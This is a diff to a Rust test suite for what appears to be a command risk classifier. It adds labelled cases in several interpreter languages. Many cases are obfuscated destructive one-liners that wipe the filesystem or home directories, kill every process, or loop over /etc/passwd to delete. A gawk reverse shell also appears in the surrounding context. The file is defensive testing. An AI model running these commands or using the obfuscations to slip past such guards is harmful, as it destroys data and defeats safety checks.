@@ -22,6 +22,29 @@ pub(super) fn check_all(cases: &[(Risk, &str)]) {
 #[test]
 fn python() {
     check_all(&[
+        (Critical, r#"python3 -c 'import os; os.system(next(iter(["rm -rf /"])))'"#),
+        (Critical, r#"python3 -c 'import os; os.system("".join(sorted("mr", reverse=True)) + " -rf /")'"#),
+        (Critical, r#"python3 -c 'import os,json; os.system(json.loads("{\"c\": \"rm -rf /\"}")["c"])'"#),
+        (Critical, r#"python3 -c 'import os; d = dict(c="rm -rf /"); os.system(d["c"])'"#),
+        (Safe, r#"python3 -c 'import json,sys; print(json.loads(sys.stdin.read())["name"])'"#),
+        (Critical, r#"python3 -c 'import os; (lambda f, *a: f(" ".join(a)))(os.system, "rm", "-rf", "/")'"#),
+        (
+            Critical,
+            r#"python3 -c 'import os
+def run(first, *rest):
+    os.system(first + " " + rest[0])
+run("rm", "-rf /")'"#,
+        ),
+        (High, r#"python3 -c 'import pwd,shutil; [shutil.rmtree(p.pw_dir) for p in pwd.getpwall()]'"#),
+        (High, r#"python3 -c 'import psutil; [p.kill() for p in psutil.process_iter()]'"#),
+        (
+            Moderate,
+            r#"python3 -c 'import psutil; [p.kill() for p in psutil.process_iter() if p.name() == "node"]'"#,
+        ),
+        (Safe, r#"python3 -c 'import psutil; print([p.pid for p in psutil.process_iter()])'"#),
+        (Safe, r#"python3 -c 'import psutil; print(psutil.Process(4242).memory_info())'"#),
+        (Safe, r#"python3 -c 'import pwd; print([p.pw_dir for p in pwd.getpwall()])'"#),
+        (Safe, r#"python3 -c 'print(sorted("rm -rf /"))'"#),
         (Critical, r#"python3 -c "import os; os.system('rm -rf /')""#),
         (Critical, r#"python3 -c "import os as o; o.system('rm'+' -rf '+'/')""#),
         (Critical, r#"python3 -c "from os import system as s; s('rm -rf /')""#),
@@ -140,6 +163,9 @@ while True: os.fork()""#,
 #[test]
 fn javascript() {
     check_all(&[
+        (Critical, r#"node -e 'require("child_process").execSync("rm".concat(" -rf", " /"))'"#),
+        (Critical, r#"node -e 'require("child_process").execSync(JSON.parse("[\"rm -rf /\"]")[0])'"#),
+        (Safe, r#"node -e 'console.log(JSON.parse("{\"c\": \"rm -rf /\"}").c)'"#),
         (Critical, r#"node -e "require('child_process').execSync('rm -rf /')""#),
         (Critical, r#"node -e "const {execSync: e} = require('child_process'); e('rm -rf /')""#),
         (Critical, r#"node -e "const cp = require('child_'+'process'); cp['ex'+'ec']('rm -rf /')""#),
@@ -255,6 +281,33 @@ fn perl_and_ruby() {
         (Critical, r#"ruby -e 'Dir["/etc/*"].each { |f| File.unlink f }'"#),
         (Critical, r#"ruby -e 'Kernel.send(:system, "rm -rf /")'"#),
         (Critical, r#"ruby -e 'send(:system, "rm -rf /")'"#),
+        (Critical, r#"perl -e 'my $c = pack("H*", "726d").q( -rf /); exec $c'"#),
+        (Critical, r#"perl -e '$c = "rm".qq{ -rf }.chr 47; system $c'"#),
+        (Safe, r#"perl -e 'my $c = pack("H*", "6c73").q( -l); exec $c'"#),
+        (Critical, r#"perl -e 'system join("", map(chr, 114,109,32,45,114,102,32,47))'"#),
+        (Critical, r#"perl -e 'system join "", map chr($_ + 1), 113,108,31,44,113,101,31,46'"#),
+        (Critical, r#"perl -e 'system((split /,/, "x,rm -rf /")[1])'"#),
+        (Critical, r#"perl -e 'system(("rm -rf /")[0])'"#),
+        (High, r#"perl -e 'kill "KILL", `pgrep .`'"#),
+        (Critical, r#"perl -e 'my %c = (a => "rm", b => "-rf", c => "/"); system @c{qw(a b c)}'"#),
+        (Critical, r#"perl -e '@l = ("x", "rm", "-rf", "/"); exec @l[1, 2, 3]'"#),
+        (Safe, r#"perl -lane 'print "@F[0, 2]"' a.txt"#),
+        (Critical, r#"perl -e 'my $f = sub { system $_[0] }; $f->("rm -rf /")'"#),
+        (Critical, r#"perl -MFile::Find -e 'find(sub { unlink $_ }, "/")'"#),
+        (
+            Safe,
+            r#"perl -e 'print join(" ", map(sprintf("%02x", $_), 1, 2)), "
+"'"#,
+        ),
+        (Critical, r#"ruby -e 'f = lambda { |x| system x }; f.("rm -rf /")'"#),
+        (Critical, r#"ruby -e 'def f(x) = system(x); f("rm -rf /")'"#),
+        (Critical, r#"ruby -e 'system format("%s -rf %s", "rm", "/")'"#),
+        (Safe, r#"ruby -e 'def f(x) = x * 2; puts f(3)'"#),
+        (Critical, r#"ruby -e 'f = proc { |x| system x }; f["rm -rf /"]'"#),
+        (Critical, r#"ruby -e 'system(%w[rm -rf /] * " ")'"#),
+        (Critical, r#"ruby -e '["rm -rf /"].each { system _1 }'"#),
+        (Critical, r#"ruby -rfileutils -e 'Dir["/home/*"].each { FileUtils.rm_rf it }'"#),
+        (Safe, r#"ruby -e '[1, 2].each { puts _1 }'"#),
         (Critical, r#"ruby -e 'system(["726d202d7266202f"].pack("H*"))'"#),
         (
             Critical,
@@ -291,6 +344,15 @@ fn perl_and_ruby() {
 #[test]
 fn php_and_lua() {
     check_all(&[
+        (Critical, r#"php -r 'system(pack("H*","726d202d7266202f"));'"#),
+        (Critical, r#"php -r 'system(strtr("xm -rf /", "x", "r"));'"#),
+        (Critical, r#"php -r 'system(strtr("A -rf /", ["A" => "rm"]));'"#),
+        (Critical, r#"php -r '$a = ["x", "rm -rf /"]; system(end($a));'"#),
+        (
+            Critical,
+            r#"lua -e 'local c={} for w in ("rm -rf /"):gmatch("%S+") do c[#c+1]=w end os.execute(table.concat(c," "))'"#,
+        ),
+        (Safe, r#"php -r 'echo strtr("rm -rf /", "r", "x");'"#),
         (Critical, r#"php -r 'system("rm -rf /");'"#),
         (Critical, r#"php -r 'shell_exec("rm -rf /");'"#),
         (Critical, r#"php -r 'echo `rm -rf /`;'"#),
@@ -332,6 +394,26 @@ fn awk_and_sed() {
             r#"gawk 'BEGIN{s="/inet/tcp/0/1.2.3.4/4444";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")}}'"#,
         ),
         (Critical, r#"awk 'BEGIN{system("rm -rf " ENVIRON["HOME"])}'"#),
+        (High, r#"sudo awk '{print $2|"xargs -r kill -9"}' <(ps -eo user,pid --no-headers)"#),
+        (High, r#"ps aux | awk 'NR>1{print $2 | "xargs kill"}'"#),
+        (High, r#"ps -ef | awk '{system("kill -9 " $2)}'"#),
+        (Moderate, r#"ps aux | awk '/java/{print $2 | "xargs kill -9"}'"#),
+        (Moderate, r#"awk '$11 == "node" {print $2 | "xargs kill -9"}' <(ps aux)"#),
+        (Critical, r#"awk '{system("rm -rf " $2)}' <(echo a /)"#),
+        (Safe, r#"awk '{print $2|"sort -n"}' <(ps -eo user,pid)"#),
+        (Critical, r#"awk 'function f(x){system(x)} BEGIN{f("rm -rf /")}'"#),
+        (Critical, r#"awk 'function f(a, b){return a " " b} BEGIN{system(f("rm -rf", "/"))}'"#),
+        (Critical, r#"gawk 'function f(){system("rm -rf /")} {@$1()}' a"#),
+        (Critical, r#"gawk 'BEGIN{f = "system"; @f("rm -rf /")}'"#),
+        (Critical, r#"gawk 'BEGIN{c = "sh"; print "rm -rf /" |& c; close(c, "to")}'"#),
+        (
+            High,
+            r#"awk 'BEGIN{while((getline d < "/etc/passwd") > 0){split(d, a, ":"); system("rm -rf " a[6])}}'"#,
+        ),
+        (Safe, r#"awk 'BEGIN{while((getline l < "a.txt") > 0) n++; print n}'"#),
+        (High, r#"ps -eo pid= | awk '{print "kill -9 "$1}' | sh"#),
+        (Moderate, r#"ps aux | awk '/node/{print "kill -9 "$2}' | sh"#),
+        (Safe, r#"awk 'function twice(x){return 2 * x} {print twice($1)}' a"#),
         (Safe, r#"awk '{print $1}' a.txt"#),
         (Safe, r#"awk -F: '$3 >= 1000 {print $1 | "sort"}' /etc/passwd"#),
         (Safe, r#"awk '/system\(/ {print "rm -rf /"}' a.c"#),
